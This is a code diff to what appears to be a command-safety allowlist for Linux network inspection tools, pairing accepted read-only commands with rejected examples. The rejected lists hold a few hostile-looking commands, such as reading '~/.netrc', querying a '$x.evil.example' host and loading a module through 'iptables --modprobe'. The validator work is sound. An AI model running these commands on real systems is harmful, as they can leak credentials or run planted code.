@@ -1,4 +1,4 @@
-import { type Program, reads, subs } from "./program.ts";
+import { also, nameServer, type Program, reads, subs, systemBus } from "./program.ts";
 
 /** Every pair of an object and a verb, as ip takes them. */
 const pairs = (objects: string, verbs: string): string =>
@@ -66,17 +66,27 @@ const interfaces: readonly Program[] = [
     match: ["ifconfig", "ifconfig eth0", "ifconfig -a"],
     notMatch: ["ifconfig eth0 down", "ifconfig eth0 192.0.2.1", 'ifconfig "$x"', "ifconfig eth*"],
   }),
-  subs("route", "", [
-    { sub: "get", operands: ["text"], operandIs: name, match: ["route get default"], notMatch: ["route get -x y"] },
-    { options: "-ne6v", match: ["route", "route -n"], notMatch: ["route add default gw 192.0.2.1", "route -n flush"] },
-  ]),
-  reads("arp", {
-    options: "-anev -i=",
-    operands: ["text", "none"],
-    operandIs: name,
-    match: ["arp -a", "arp -n"],
-    notMatch: ["arp -d 192.0.2.1", "arp -s 192.0.2.1 x", "arp -f x", "arp -a -d x"],
-  }),
+  also(
+    { connects: [nameServer] },
+    subs("route", "", [
+      { sub: "get", operands: ["text"], operandIs: name, match: ["route get default"], notMatch: ["route get -x y"] },
+      {
+        options: "-ne6v",
+        match: ["route", "route -n"],
+        notMatch: ["route add default gw 192.0.2.1", "route -n flush"],
+      },
+    ]),
+  ),
+  also(
+    { connects: [nameServer] },
+    reads("arp", {
+      options: "-anev -i=",
+      operands: ["text", "none"],
+      operandIs: name,
+      match: ["arp -a", "arp -n"],
+      notMatch: ["arp -d 192.0.2.1", "arp -s 192.0.2.1 x", "arp -f x", "arp -a -d x"],
+    }),
+  ),
   reads("ethtool", {
     options: `-aciIgkSTlPmnux --json --show-pause --show-coalesce --show-ring --driver --show-features --show-offload
       --statistics --phy-statistics --show-time-stamping --show-channels --show-permaddr --show-eee --show-fec
@@ -114,67 +124,76 @@ const interfaces: readonly Program[] = [
 
 /** Managers of connections. */
 const managers: readonly Program[] = [
-  subs(
-    "nmcli",
-    `-tpo -m= -c= -f= -g= -e= -w= --terse --pretty --overview --mode= --colors= --fields= --get-values= --escape=
+  also(
+    { connects: systemBus },
+    subs(
+      "nmcli",
+      `-tpo -m= -c= -f= -g= -e= -w= --terse --pretty --overview --mode= --colors= --fields= --get-values= --escape=
       --wait= !-s !--show-secrets`,
-    [
-      {
-        sub: [
-          pairs("connection con c", "show s"),
-          pairs("device dev d", "show status s"),
-          "device wifi list|dev wifi list|d wifi list|d w list",
-        ].join("|"),
-        options: "--active --order= --rescan= !-s !--show-secrets",
-        operands: ["text"],
-        match: ["nmcli con show", "nmcli -t -f NAME con show", "nmcli -f all dev show eth0", "nmcli d wifi list"],
-        notMatch: ["nmcli con up x", "nmcli -s con show x", "nmcli con show -s x", "nmcli d wifi connect x"],
-      },
-      {
-        sub: `general status|general permissions|general hostname|general|g|device wifi|dev wifi|d wifi|device|dev|d|connection|con|c|networking connectivity|networking|radio all|radio wifi|radio wwan|radio`,
-        match: ["nmcli general status", "nmcli d", "nmcli radio wifi"],
-        notMatch: [
-          "nmcli general hostname web1",
-          "nmcli networking off",
-          "nmcli radio wifi off",
-          "nmcli d disconnect x",
-        ],
-      },
-      { options: "-tpo", match: ["nmcli"], notMatch: ["nmcli monitor x", "nmcli agent"] },
-    ],
+      [
+        {
+          sub: [
+            pairs("connection con c", "show s"),
+            pairs("device dev d", "show status s"),
+            "device wifi list|dev wifi list|d wifi list|d w list",
+          ].join("|"),
+          options: "--active --order= --rescan= !-s !--show-secrets",
+          operands: ["text"],
+          match: ["nmcli con show", "nmcli -t -f NAME con show", "nmcli -f all dev show eth0", "nmcli d wifi list"],
+          notMatch: ["nmcli con up x", "nmcli -s con show x", "nmcli con show -s x", "nmcli d wifi connect x"],
+        },
+        {
+          sub: `general status|general permissions|general hostname|general|g|device wifi|dev wifi|d wifi|device|dev|d|connection|con|c|networking connectivity|networking|radio all|radio wifi|radio wwan|radio`,
+          match: ["nmcli general status", "nmcli d", "nmcli radio wifi"],
+          notMatch: [
+            "nmcli general hostname web1",
+            "nmcli networking off",
+            "nmcli radio wifi off",
+            "nmcli d disconnect x",
+          ],
+        },
+        { options: "-tpo", match: ["nmcli"], notMatch: ["nmcli monitor x", "nmcli agent"] },
+      ],
+    ),
   ),
-  subs("resolvectl", "--no-pager --legend=", [
-    {
-      // With a second word they set it.
-      sub: "dns|domain|llmnr|mdns|dnssec|dnsovertls|default-route|nta",
-      operands: ["text", "none"],
-      operandIs: name,
-      match: ["resolvectl dns", "resolvectl dns eth0"],
-      notMatch: ["resolvectl dns eth0 192.0.2.1", "resolvectl domain eth0 example.com"],
-    },
-    {
-      sub: "status",
-      operands: ["text"],
-      match: ["resolvectl status", "resolvectl status eth0"],
-      notMatch: ["resolvectl query example.com", "resolvectl status -i x"],
-    },
-    {
-      sub: "statistics|show-cache|show-server-state",
-      match: ["resolvectl statistics"],
-      notMatch: ["resolvectl flush-caches", "resolvectl reset-statistics"],
-    },
-    { options: "--no-pager", match: ["resolvectl"], notMatch: ["resolvectl revert eth0", "resolvectl monitor"] },
-  ]),
-  subs("networkctl", "-as --all --stats --no-pager --no-legend --full", [
-    {
-      sub: "list|status|lldp",
-      options: "-asl -n= --all --stats --no-pager --no-legend --full --lines= --json=",
-      operands: ["text"],
-      match: ["networkctl list", "networkctl status eth0"],
-      notMatch: ["networkctl down eth0", "networkctl reload"],
-    },
-    { options: "--no-pager", match: ["networkctl"], notMatch: ["networkctl delete eth0", "networkctl renew eth0"] },
-  ]),
+  also(
+    { connects: systemBus },
+    subs("resolvectl", "--no-pager --legend=", [
+      {
+        // With a second word they set it.
+        sub: "dns|domain|llmnr|mdns|dnssec|dnsovertls|default-route|nta",
+        operands: ["text", "none"],
+        operandIs: name,
+        match: ["resolvectl dns", "resolvectl dns eth0"],
+        notMatch: ["resolvectl dns eth0 192.0.2.1", "resolvectl domain eth0 example.com"],
+      },
+      {
+        sub: "status",
+        operands: ["text"],
+        match: ["resolvectl status", "resolvectl status eth0"],
+        notMatch: ["resolvectl query example.com", "resolvectl status -i x"],
+      },
+      {
+        sub: "statistics|show-cache|show-server-state",
+        match: ["resolvectl statistics"],
+        notMatch: ["resolvectl flush-caches", "resolvectl reset-statistics"],
+      },
+      { options: "--no-pager", match: ["resolvectl"], notMatch: ["resolvectl revert eth0", "resolvectl monitor"] },
+    ]),
+  ),
+  also(
+    { connects: systemBus },
+    subs("networkctl", "-as --all --stats --no-pager --no-legend --full", [
+      {
+        sub: "list|status|lldp",
+        options: "-asl -n= --all --stats --no-pager --no-legend --full --lines= --json=",
+        operands: ["text"],
+        match: ["networkctl list", "networkctl status eth0"],
+        notMatch: ["networkctl down eth0", "networkctl reload"],
+      },
+      { options: "--no-pager", match: ["networkctl"], notMatch: ["networkctl delete eth0", "networkctl renew eth0"] },
+    ]),
+  ),
   subs("wg", "", [
     {
       sub: "show",
@@ -207,33 +226,42 @@ const managers: readonly Program[] = [
 
 /** Sockets and packet filters. */
 const filters: readonly Program[] = [
-  reads("ss", {
-    options: `-046abBdeEhHilmMnoOpqQrsStTuvVwxzZ -f= -A= -D=> ?-K --all --bound-inactive --listening --numeric --processes
+  also(
+    { connects: [nameServer, "rpcbind.sock"] },
+    reads("ss", {
+      options: `-046abBdeEhHilmMnoOpqQrsStTuvVwxzZ -f= -A= -D=> ?-K --all --bound-inactive --listening --numeric --processes
       --threads --tcp --udp --dccp --sctp --mptcp --raw --unix --packet --vsock --xdp --summary --extended --memory
       --info --resolve --options --family= --query= --socket= --no-header --oneline --no-queues --tos --cgroup --context
       --contexts --bpf --ipv4 --ipv6 --inet-sockopt --tipcinfo ?--kill ?--diag=>`,
-    operands: ["text"],
-    talks: true,
-    match: ["ss -tlnp", "ss -s", "ss -tnp state established", "ss -tn state established '( dport = :443 )'"],
-    notMatch: ["ss -K dst 192.0.2.1", "ss -D x", "ss -F ~/.netrc", "ss -N ns", "ss --ki", 'ss dst "$x.evil.example"'],
-  }),
-  reads("netstat", {
-    // On the BSDs `-z` resets the counters, as `-Z` does on AIX.
-    options: `-46aAbcCdeFfgGiIlLmnoOpPqrRsStTuUvwWxX --all --listening --numeric --programs --tcp --udp --unix --raw
+      operands: ["text"],
+      talks: true,
+      match: ["ss -tlnp", "ss -s", "ss -tnp state established", "ss -tn state established '( dport = :443 )'"],
+      notMatch: ["ss -K dst 192.0.2.1", "ss -D x", "ss -F ~/.netrc", "ss -N ns", "ss --ki", 'ss dst "$x.evil.example"'],
+    }),
+  ),
+  also(
+    { connects: [nameServer] },
+    reads("netstat", {
+      // On the BSDs `-z` resets the counters, as `-Z` does on AIX.
+      options: `-46aAbcCdeFfgGiIlLmnoOpPqrRsStTuUvwWxX --all --listening --numeric --programs --tcp --udp --unix --raw
       --route --interfaces[=] --groups --statistics --continuous --extend --timers --wide --verbose --numeric-ports
       --numeric-hosts --numeric-users --symbolic --inet --inet6`,
-    operands: ["text"],
-    match: ["netstat -tulpn", "netstat -rn", "netstat -an", "netstat -s"],
-    notMatch: ["netstat -sz", "netstat -Zi", "netstat -M core"],
-  }),
-  reads("iptables ip6tables iptables-legacy iptables-nft ip6tables-legacy ip6tables-nft", {
-    options: "-LSnvx46 -t= -w[=] --list --list-rules --numeric --verbose --line-numbers --exact --table= --wait[=]",
-    has: ["-L", "-S", "--list", "--list-rules"],
-    operands: ["text"],
-    operandIs: /^[\w-]+$/,
-    match: ["iptables -L -n -v", "iptables -t nat -S", "iptables -nvL INPUT --line-numbers", "ip6tables -L"],
-    notMatch: ["iptables -L -Z", "iptables -F", "iptables -L --modprobe=./x", "iptables -t nat", "iptables -LF"],
-  }),
+      operands: ["text"],
+      match: ["netstat -tulpn", "netstat -rn", "netstat -an", "netstat -s"],
+      notMatch: ["netstat -sz", "netstat -Zi", "netstat -M core"],
+    }),
+  ),
+  also(
+    { connects: [nameServer], opens: /^\/run\/xtables\.lock$/ },
+    reads("iptables ip6tables iptables-legacy iptables-nft ip6tables-legacy ip6tables-nft", {
+      options: "-LSnvx46 -t= -w[=] --list --list-rules --numeric --verbose --line-numbers --exact --table= --wait[=]",
+      has: ["-L", "-S", "--list", "--list-rules"],
+      operands: ["text"],
+      operandIs: /^[\w-]+$/,
+      match: ["iptables -L -n -v", "iptables -t nat -S", "iptables -nvL INPUT --line-numbers", "ip6tables -L"],
+      notMatch: ["iptables -L -Z", "iptables -F", "iptables -L --modprobe=./x", "iptables -t nat", "iptables -LF"],
+    }),
+  ),
   reads("iptables-save ip6tables-save", {
     options: "-c -t= --counters --table= ?-f=> ?--file=>",
     match: ["iptables-save", "iptables-save -t nat"],
@@ -254,31 +282,37 @@ const filters: readonly Program[] = [
       ],
     },
   ]),
-  subs("ufw", "", [
-    {
-      sub: "status",
-      operands: ["text"],
-      operandIs: /^(?:verbose|numbered)$/,
-      match: ["ufw status", "ufw status verbose"],
-      notMatch: ["ufw disable", "ufw status x"],
-    },
-    {
-      sub: "app list|app info|show",
-      operands: ["text"],
-      operandIs: /^[\w .-]+$/,
-      match: ["ufw app list", "ufw show added"],
-      notMatch: ["ufw app update all", "ufw delete 1", "ufw --dry-run enable"],
-    },
-  ]),
-  reads("firewall-cmd", {
-    options: `--state --permanent --zone= --list-all --list-all-zones --list-services --list-ports --list-interfaces
+  also(
+    { starts: ["iptables", "ip6tables", "xtables-nft-multi"], opens: /^\/run\/ufw\.lock$/ },
+    subs("ufw", "", [
+      {
+        sub: "status",
+        operands: ["text"],
+        operandIs: /^(?:verbose|numbered)$/,
+        match: ["ufw status", "ufw status verbose"],
+        notMatch: ["ufw disable", "ufw status x"],
+      },
+      {
+        sub: "app list|app info|show",
+        operands: ["text"],
+        operandIs: /^[\w .-]+$/,
+        match: ["ufw app list", "ufw show added"],
+        notMatch: ["ufw app update all", "ufw delete 1", "ufw --dry-run enable"],
+      },
+    ]),
+  ),
+  also(
+    { connects: systemBus },
+    reads("firewall-cmd", {
+      options: `--state --permanent --zone= --list-all --list-all-zones --list-services --list-ports --list-interfaces
       --list-sources --list-rich-rules --list-forward-ports --list-icmp-blocks --list-protocols --list-source-ports
       --get-zones --get-default-zone --get-active-zones --get-services --get-icmptypes --get-policies
       --get-active-policies --info-zone= --info-service= --info-policy= --query-service= --query-port=
       --query-interface= --query-source= --query-masquerade --get-zone-of-interface=`,
-    match: ["firewall-cmd --list-all", "firewall-cmd --zone public --list-all", "firewall-cmd --state"],
-    notMatch: ["firewall-cmd --reload", "firewall-cmd --panic-on", "firewall-cmd --list-all --remove-port=22/tcp"],
-  }),
+      match: ["firewall-cmd --list-all", "firewall-cmd --zone public --list-all", "firewall-cmd --state"],
+      notMatch: ["firewall-cmd --reload", "firewall-cmd --panic-on", "firewall-cmd --list-all --remove-port=22/tcp"],
+    }),
+  ),
 ];
 
 /** Interfaces, addresses, routes, sockets and filters of a machine. */
